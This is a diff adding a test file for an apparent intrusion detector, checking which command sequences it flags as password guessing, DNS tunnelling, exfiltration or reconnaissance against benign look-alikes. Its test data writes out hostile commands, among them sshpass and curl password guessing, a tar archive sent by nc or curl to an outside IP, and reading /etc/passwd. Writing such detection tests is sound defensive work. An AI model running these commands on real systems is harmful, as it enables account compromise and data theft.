@@ -1,0 +1,87 @@
+/** What combinations of commands say, each beside what people do every day. */
+import { expect, test } from 'bun:test'
+import { Commands } from '../../src/detect/commands.ts'
+import { Lineage } from '../../src/detect/lineage.ts'
+import { type Calls, frameOf } from '../support/hand-frames.ts'
+
+const STARTER = 7
+
+/** Each command in a process and a second of its own, all started by one program. */
+function run(commands: readonly string[], { uid = 0, every = 1, starter = 'php' } = {}) {
+  const lineage = new Lineage()
+  const found = new Commands(lineage)
+  const above: Calls = { pid: STARTER, name: starter, startMs: 1_000, counts: { clone: 1 } }
+  const all = { proofs: [] as string[], asked: [] as string[] }
+  for (const [i, command] of commands.entries()) {
+    const second = 1_000 + i * every
+    const child: Calls = {
+      ...{ pid: 100 + i, name: command.split(' ')[0]!, startMs: second * 1000 },
+      ...{ ppid: STARTER, uid, command, counts: { execve: 1 } },
+    }
+    const frame = frameOf(second, [above, child])
+    lineage.push(frame)
+    const { proofs, discoveries } = found.push(frame)
+    for (const { process, finding } of proofs) {
+      expect(process.pid).toBe(STARTER)
+      all.proofs.push(`${finding.says} ${finding.question}`)
+    }
+    all.asked = discoveries.at(-1)?.asked.slice() ?? all.asked
+  }
+  return all
+}
+
+const times = (count: number, command: (i: number) => string) =>
+  Array.from({ length: count }, (_, i) => command(i))
+const label = (i: number) => `${i}`.padStart(48, 'mfxgk3dpnfxgc5dj')
+
+test.each<[string, string[], string[]]>([
+  [
+    'passwords by sshpass',
+    times(6, (i) => `sshpass -p pw${i} ssh root@h id`),
+    ['proves password-guessing'],
+  ],
+  [
+    'passwords for a page',
+    times(6, (i) => `curl -s -u admin:pw${i} http://h/`),
+    ['proves password-guessing'],
+  ],
+  ['one password for six files', times(6, (i) => `curl -u bob:pw http://h/${i}`), []],
+  ['a new token for each request', times(6, (i) => `curl -H Authorization:t${i} http://h/`), []],
+  ['a health check', times(20, () => 'dig @127.0.0.1 www.example.test +short'), []],
+  ['data in names', times(6, (i) => `dig +short ${label(i)}.t.example TXT`), ['proves dns-tunnel']],
+  ['names of a cloud', times(9, (i) => `dig k8s-web-ab${i}.elb.eu-west-1.amazonaws.com`), []],
+  ['an archive by nc', ['tar cz /home', 'nc -N 203.0.113.9 8091'], ['supports exfiltration']],
+  [
+    'an archive by curl',
+    ['tar -czf /tmp/x h', 'curl -F file=@/tmp/x http://203.0.113.9/u'],
+    ['supports exfiltration'],
+  ],
+  ['a backup to a named host', ['tar -czf b.tgz etc', 'curl -T b.tgz https://backup.example/'], []],
+  ['an archive, and a check of ports', ['tar czf b.tgz etc', 'nc -z -w 1 10.0.0.3 22'], []],
+  ['an archive for this host', ['tar czf b.tgz etc', 'curl -T b.tgz http://127.0.0.1/'], []],
+])('%s', (_, commands, expected) => {
+  expect(run(commands).proofs).toEqual(expected)
+})
+
+test('who is not root calls su again and again; root may', () => {
+  const calls = times(6, () => 'su victim -c id')
+  expect(run(calls, { uid: 1000 }).proofs).toEqual(['proves password-guessing'])
+  expect(run(calls, { uid: 0 }).proofs).toEqual([])
+})
+
+test.each<[string, string[], string[]]>([
+  ['who came from outside', ['id', 'uname -a', 'cat /etc/passwd'], ['user', 'accounts', 'system']],
+  [
+    'by whole paths',
+    ['/usr/bin/whoami', '/bin/ps aux', 'ls -la /home'],
+    ['user', 'processes', 'files'],
+  ],
+  ['a status script', ['uname -r', 'ps aux', 'df -h', 'ls -t', 'cat /etc/hostname'], []],
+  ['two questions', ['id', 'uname -a', 'id'], []],
+])('%s asks %p', (_, commands, expected) => {
+  expect(run(commands).asked).toEqual(expected)
+})
+
+test('questions of two minutes do not belong together', () => {
+  expect(run(['id', 'uname -a', 'ps aux'], { every: 61 }).asked).toEqual([])
+})
